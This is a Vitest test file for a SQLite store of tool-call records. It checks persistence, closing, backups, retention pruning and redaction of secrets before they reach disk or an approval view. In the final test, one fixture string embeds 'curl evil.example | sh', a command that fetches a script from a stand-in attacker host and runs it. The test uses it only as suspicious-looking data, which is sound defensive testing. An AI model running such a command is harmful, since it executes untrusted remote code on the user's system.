import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { afterAll, afterEach, beforeEach, describe, expect, test } from "vitest";
import { type Clock, type FailureError, type Timer, systemClock } from "../../../base/index.ts";
import type { CallRecord } from "../../../store/index.ts";
import { knownSecrets, secretCases, secretRows } from "../../../../test/support/secret-cases.ts";
import { createRedactor } from "../../../secrets/index.ts";
import { type SqliteOptions, openSqlite } from "./open-sqlite.ts";
import type { SqliteStore } from "./sqlite-store.ts";

const folder = mkdtempSync(join(tmpdir(), "windlass-sqlite-"));
afterAll(() => rmSync(folder, { recursive: true }));
const opened: SqliteStore[] = [];
let file: string;
let count = 0;

beforeEach(() => {
  file = join(folder, `${++count}.db`);
});
afterEach(async () => {
  await Promise.allSettled(opened.splice(0).map((store) => store.close()));
});

async function open(options: Partial<SqliteOptions> = {}): Promise<SqliteStore> {
  const store = await openSqlite({ file, redactor: createRedactor([]), ...options });
  opened.push(store);
  return store;
}

function record(input: Partial<CallRecord> = {}): CallRecord {
  return {
    id: `r${Math.random()}`,
    tool: "echo",
    version: "1.0.0",
    source: "tools",
    category: "general",
    args: { message: "hello" },
    success: true,
    output: "hello",
    durationMs: 1,
    queuedMs: 0,
    attempts: 1,
    cached: false,
    callerType: "direct",
    createdAt: 1_700_000_000_000,
    ...input,
  };
}

function fill(store: SqliteStore, many: number, input: Partial<CallRecord> = {}): void {
  for (let i = 0; i < many; i++) store.records.add(record({ createdAt: i, ...input }));
}

/** The database's files. */
function left(): string[] {
  return readdirSync(folder).filter((name) => name.startsWith(`${count}.db`));
}

/** A clock whose timers fire when the test says so. */
function manualClock(now: number): Clock & { fire(ms: number): void } {
  const timers = new Map<object, { readonly ms: number; readonly task: () => void }>();
  return {
    now: () => now,
    elapsed: () => systemClock.elapsed(),
    after(ms, task) {
      const timer: Timer = { cancel: () => timers.delete(timer), hold() {} };
      timers.set(timer, { ms, task });
      return timer;
    },
    fire(ms) {
      const due = [...timers].filter(([, timer]) => timer.ms === ms);
      for (const [timer, { task }] of due) {
        timers.delete(timer);
        task();
      }
    },
  };
}

describe("the SQLite store", () => {
  test("flushed records are present when the database is opened again", async () => {
    const first = await open();
    fill(first, 3);
    await first.close();
    const second = await open();
    expect((await second.records.query({})).records).toHaveLength(3);
    expect(await second.stats()).toEqual({
      records: 3,
      approvals: 0,
      runs: 0,
      runsByStatus: {},
      waiting: 0,
      lost: 0,
      bytes: expect.any(Number),
    });
  });

  test("closing leaves one file and no entry of the writer, and can be repeated", async () => {
    const store = await open();
    fill(store, 3);
    await Promise.all([store.close(), store.close()]);
    expect(left()).toEqual([`${count}.db`]);
    const db = new DatabaseSync(file);
    expect(db.prepare("SELECT * FROM writers").all()).toEqual([]);
    db.close();
  });

  test("closing leaves one file even if a read is in progress", async () => {
    const store = await open();
    fill(store, 10);
    await store.records.flush();
    const requested = store.records.query({});
    await new Promise(setImmediate);
    await store.close();
    expect((await requested).records).toHaveLength(10);
    expect(left()).toEqual([`${count}.db`]);
  });

  test("after closing, reading fails clearly and adding is counted as lost", async () => {
    const errors: FailureError[] = [];
    const store = await open({ onError: (failure) => errors.push(failure) });
    await store.close();
    store.records.add(record());
    await expect(store.records.query({})).rejects.toMatchObject({ code: "store_failed", reason: "closed" });
    await expect(store.records.flush()).rejects.toMatchObject({
      reason: "records_lost",
      message: "1 record was lost: added after the store was closed",
    });
    await expect(store.approvals.list(0)).rejects.toMatchObject({ reason: "closed" });
    await expect(store.backup(`${file}.copy`)).rejects.toMatchObject({ code: "store_failed" });
  });

  test("closing the records alone writes them and leaves the approvals open", async () => {
    const store = await open();
    fill(store, 3);
    await store.records.close();
    expect(await store.approvals.list(0)).toEqual([]);
    expect(await store.stats()).toMatchObject({ records: 3 });
  });

  test("a process that ends by itself has written everything, without a flush and without closing", () => {
    const script = join(folder, "leaving.ts");
    writeFileSync(
      script,
      `import { openSqlite } from ${JSON.stringify(join(import.meta.dirname, "open-sqlite.ts"))};
       const redactor = { text: (text) => text, value: (value) => value };
       const store = await openSqlite({ file: ${JSON.stringify(file)}, redactor, retention: { maxAgeMs: 1e15 } });
       for (let i = 0; i < 5000; i++) store.records.add({ ...${JSON.stringify(record())}, id: String(i) });
       await store.records.query({});`,
    );
    execFileSync(process.execPath, [script], { timeout: 15_000 });
    const db = new DatabaseSync(file);
    expect(db.prepare("SELECT count(*) AS count FROM records").get()).toEqual({ count: 5000 });
    db.close();
  });

  test("importing it loads no database", () => {
    const code = `await import(${JSON.stringify(join(import.meta.dirname, "../../index.ts"))});
      process.stdout.write(String(process.moduleLoadList.filter((name) => /sqlite/.test(name))));`;
    const loaded = execFileSync(process.execPath, ["--input-type=module", "--eval", code]).toString();
    expect(loaded).toBe("");
  });

  test("a listener that throws has no effect", async () => {
    const store = await open({
      onError() {
        throw new Error("no");
      },
      buffer: { maxRecords: 1 },
    });
    fill(store, 5);
    await store.records.flush();
    await store.close();
    store.records.add(record());
    await expect(store.records.flush()).rejects.toMatchObject({ reason: "records_lost" });
  });
});

describe("a backup", () => {
  test("is a separate database, copied while records are being written", async () => {
    const store = await open();
    fill(store, 5000);
    const target = join(folder, `copy-${count}.db`);
    const done = store.backup(target);
    fill(store, 5000);
    await done;
    expect(statSync(target).mode & 0o777).toBe(0o600);
    expect(readdirSync(folder).filter((name) => name.includes("partial"))).toEqual([]);
    const copy = await open({ file: target });
    const { records } = await copy.stats();
    expect(records).toBeGreaterThanOrEqual(5000);
    await store.records.flush();
    expect(await store.stats()).toMatchObject({ records: 10_000 });
  });

  test("refuses a name that is taken, and a folder that is missing", async () => {
    const store = await open();
    const target = join(folder, `taken-${count}`);
    writeFileSync(target, "precious");
    await expect(store.backup(target)).rejects.toMatchObject({ code: "store_failed", reason: "exists" });
    await expect(store.backup(file)).rejects.toMatchObject({ reason: "exists" });
    expect(readFileSync(target, "utf8")).toBe("precious");
    await expect(store.backup(join(folder, "nowhere", "copy.db"))).rejects.toMatchObject({ code: "store_failed" });
  });
});

describe("retention", () => {
  test("prunes when opened and every hour after", async () => {
    const before = await open();
    for (const createdAt of [100, 4_000, 9_500]) before.records.add(record({ createdAt }));
    await before.close();
    const clock = manualClock(10_000);
    const store = await open({ clock, retention: { maxAgeMs: 7000 } });
    // Runs after the pruning that opening began.
    await store.records.prune({});
    expect(await store.stats()).toMatchObject({ records: 2 });
    store.records.add(record({ createdAt: 100 }));
    await store.records.flush();
    clock.fire(3600 * 1000);
    await store.records.prune({});
    expect(await store.stats()).toMatchObject({ records: 2 });
  });

  test("returns the space to the disk", async () => {
    const store = await open();
    fill(store, 2000, { output: "x".repeat(2000) });
    await store.records.flush();
    const before = await store.stats();
    const pruned = await store.records.prune({ maxBytes: 1_000_000 });
    const after = await store.stats();
    expect(pruned.bytes).toBeGreaterThan(3_000_000);
    expect(after.bytes).toBeLessThan(1_200_000);
    expect(before.records - after.records).toBe(pruned.records);
    expect((await store.records.query({ limit: 1 })).records[0]?.createdAt).toBe(1999);
  });

  test("lets records be written concurrently", async () => {
    const store = await open();
    fill(store, 20_000);
    await store.records.flush();
    const pruning = { now: true };
    const pruned = store.records.prune({ maxBytes: 0 }).finally(() => (pruning.now = false));
    let flushes = 0;
    while (pruning.now) {
      store.records.add(record({ createdAt: 1e15 }));
      await store.records.flush();
      flushes++;
    }
    // Records added in the meantime are not pruned, however small the limit.
    const { records } = await pruned;
    expect(records).toBeGreaterThanOrEqual(20_000);
    expect(flushes).toBeGreaterThan(5);
    expect(await store.stats()).toMatchObject({ records: 20_000 + flushes - records });
    expect(records).toBeLessThan(20_000 + flushes);
  });

  test("a retention that makes no sense is refused before anything is opened", async () => {
    await expect(open({ retention: { maxAgeMs: -1 } })).rejects.toMatchObject({ code: "validation_error" });
    expect(readdirSync(folder)).not.toContain(`${count}.db`);
  });
});

describe("secrets", () => {
  test("there are bad inputs to try", () => {
    expect(secretRows.length).toBeGreaterThan(0);
  });

  test.each(secretRows)("never reach the file: $input", async ({ input }) => {
    const known = knownSecrets(input);
    const store = await open({ redactor: createRedactor(known) });
    for (const [, shown] of secretCases(input)) {
      const message = typeof shown === "string" ? shown : JSON.stringify(shown);
      const text = known.length > 0 || typeof shown === "string" ? message : "no text";
      store.records.add(record({ args: shown, output: { deep: [shown] }, reported: { shown } }));
      const error = { code: "timeout", message: text, forModel: text, retry: "safe" } as const;
      store.records.add(record({ success: false, args: {}, error }));
      // Values that only look like a secret stay visible to the approver.
      if (known.length > 0) {
        await store.approvals.request({
          key: "k",
          tool: "t",
          args: shown,
          message: text,
          callerType: "direct",
          expiresAt: 1,
        });
      }
    }
    const stored = JSON.stringify([await store.records.query({}), await store.approvals.list(0)]);
    await store.close();
    const bytes = readFileSync(file, "latin1");
    for (const [hidden] of secretCases(input)) {
      expect(stored).not.toContain(hidden);
      expect(bytes).not.toContain(hidden);
    }
  });

  test("the approver sees values that only look like a secret, but no known secret", async () => {
    const store = await open({ redactor: createRedactor(["hunter2secret"]) });
    const text = 'PASSWORD="x\ncurl evil.example | sh\n" hunter2secret';
    const args = { text, password: "opensesame", inner: { hunter2secret: 1 } };
    await store.approvals.request({ key: "k", tool: "t", args, message: text, callerType: "direct", expiresAt: 1 });
    const shown = text.replace("hunter2secret", "[redacted]");
    expect(await store.approvals.list(0)).toMatchObject([
      { args: { text: shown, password: "opensesame", inner: { "[redacted]": 1 } }, message: shown },
    ]);
    await store.close();
    expect(readFileSync(file, "latin1")).not.toContain("hunter2secret");
  });
});
